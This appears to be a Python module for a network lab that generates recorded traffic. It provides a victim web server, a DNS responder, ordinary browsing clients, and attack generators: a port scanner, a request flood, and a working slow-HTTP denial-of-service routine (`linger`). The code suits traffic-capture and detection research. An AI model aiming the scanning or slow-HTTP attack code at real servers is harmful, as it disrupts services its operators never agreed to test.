# SPDX-License-Identifier: Apache-2.0
"""Programs that record.py becomes inside a namespace: a web server, and the clients and attackers for which Debian has no second tool."""
from __future__ import annotations

import base64
import concurrent.futures
import contextlib
import functools
import http.client
import http.server
import ipaddress
import random
import socket
import threading
import time

from .services import DOMAIN, PASSWORD, USER

IP_PKTINFO = 8  # of Linux; the socket module of Python 3.11 does not name it

# --- the victim's side ------------------------------------------------------------------------------------------------


class Pages(http.server.SimpleHTTPRequestHandler):
    """Files over HTTP/1.1; /private/ asks for a password; uploads are read and forgotten."""

    protocol_version = "HTTP/1.1"
    timeout = 60

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass

    def _answer_without_page(self, status: int, header: str = "") -> None:
        self.send_response(status)
        if header:
            self.send_header("WWW-Authenticate", header)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_GET(self) -> None:
        wanted = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
        if self.path.startswith("/private/") and self.headers.get("Authorization") != wanted:
            self._answer_without_page(401, 'Basic realm="private"')
        else:
            super().do_GET()

    def do_POST(self) -> None:
        left = int(self.headers.get("Content-Length", 0))
        while left > 0 and (data := self.rfile.read(min(left, 65536))):
            left -= len(data)
        self._answer_without_page(204)

    do_PUT = do_POST


class WebServer(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    daemon_threads = True
    request_queue_size = 128

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # clients that leave in the middle belong to the traffic


def web(folder: str, port: str) -> None:
    WebServer(("::", int(port)), functools.partial(Pages, directory=folder)).serve_forever()


# --- clients and attackers ----------------------------------------------------------------------------------------------


def visit(address: str, port: str, pages: str, pause: str, seed: str) -> None:
    """Reads pages by one connection, with time to think between them, as a person does."""
    numbers = random.Random(seed)
    connection = http.client.HTTPConnection(address, int(port), timeout=10)
    with contextlib.suppress(OSError, http.client.HTTPException):
        for page in pages.split(","):
            connection.request("GET", f"/{page}.html", headers={"User-Agent": "Mozilla/5.0", "Accept": "text/html,*/*;q=0.8"})
            connection.getresponse().read()
            time.sleep(numbers.expovariate(1 / float(pause)))
    connection.close()


def knock(address: str, ports: str, pause: str, seed: str) -> None:
    """Connects to ports one after another, in a random order, and closes: a monitor's checks, or a scan, by their number."""
    numbers = random.Random(seed)
    order = [int(port) for port in ports.split(",")]
    numbers.shuffle(order)
    for port in order:
        with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=1):
            pass
        time.sleep(numbers.uniform(0.5, 1.5) * float(pause))


def linger(address: str, port: str, connections: str, pause: str, seconds: str) -> None:
    """Holds connections open by a header line now and then: a slow HTTP attack."""
    held: list[socket.socket] = []
    end = time.monotonic() + float(seconds)
    number = 0
    while time.monotonic() < end:
        if len(held) < int(connections):
            with contextlib.suppress(OSError):
                one = socket.create_connection((address, int(port)), timeout=2)
                one.sendall(b"POST /upload HTTP/1.1\r\nHost: victim\r\nContent-Length: 100000\r\n")
                held.append(one)
        for one in held[number % 7::7]:
            with contextlib.suppress(OSError):
                one.sendall(b"X-%d: %d\r\n" % (number, number))
        number += 1
        time.sleep(float(pause))


def own_address(target: str) -> str:
    """The address by which the kernel sends to the target."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((target, 9))
        return str(one.getsockname()[0])


def crowd(target: str, web: str, names: str, rate: str, seconds: str, seed: str) -> None:
    """Many short conversations with a server, from the addresses of this machine's network; or, if the target is a network, from this
    machine's address with the servers of this network."""
    numbers, (_, size) = random.Random(seed), target.split("/")
    other = ipaddress.ip_network(target)
    own = ipaddress.ip_network(f"{own_address(str(other[min(1, other.num_addresses - 1)]))}/{24 if size == '32' else 32}", strict=False)
    sources, targets = ([str(one) for one in ([*some.hosts()][2:-1] or [some[0]])] for some in (own, other))
    sources, targets = (numbers.sample(some, min(len(some), numbers.choice((30, 80, 200)))) for some in (sources, targets))
    end = time.monotonic() + float(seconds)
    with concurrent.futures.ThreadPoolExecutor(24) as hands:
        while time.monotonic() < end:
            ask = (ask_a_name, names) if numbers.random() < 0.4 else (read_a_page, web)
            hands.submit(ask[0], numbers.choice(sources), numbers.choice(targets), int(ask[1]), numbers.random())
            time.sleep(numbers.expovariate(float(rate)))


def ask_a_name(source: str, target: str, port: int, seed: float) -> None:
    """A question for an address, by UDP."""
    label = f"host{int(seed * 1000)}".encode()
    question = b"".join(bytes([len(word)]) + word for word in (label, *DOMAIN.encode().split(b"."))) + b"\0" + b"\0\1\0\1"
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.bind((source, 0))
        one.sendto(int(seed * 65535).to_bytes(2, "big") + b"\1\0\0\1" + bytes(6) + question, (target, port))
        one.recv(2000)


def read_a_page(source: str, target: str, port: int, seed: float) -> None:
    """A page or two of a server, by one connection."""
    connection = http.client.HTTPConnection(target, port, timeout=4, source_address=(source, 0))
    with contextlib.suppress(OSError, http.client.HTTPException):
        for _ in range(1 + (seed < 0.3)):
            connection.request("GET", "/missing.html" if seed > 0.9 else "/")
            connection.getresponse().read()
    connection.close()


def serve(folder: str, web_port: str, names_port: str) -> None:
    """Web and names, at all addresses of this machine."""
    threading.Thread(target=web, args=(folder, web_port), daemon=True).start()
    answer_names(int(names_port))


def answer_names(port: int) -> None:
    """Answers each question with one address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)
        one.bind(("", port))
        while True:
            asked, ancillary, _, sender = one.recvmsg(2000, 200)
            answer = asked[:2] + b"\x81\x80\0\1\0\1" + bytes(4) + asked[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x0a\1\2\3"
            # From the address that was asked.
            here = ancillary[0][2][8:12] if ancillary else bytes(4)
            with contextlib.suppress(OSError):
                one.sendmsg([answer], [(socket.IPPROTO_IP, IP_PKTINFO, bytes(4) + here + bytes(4))], 0, sender)
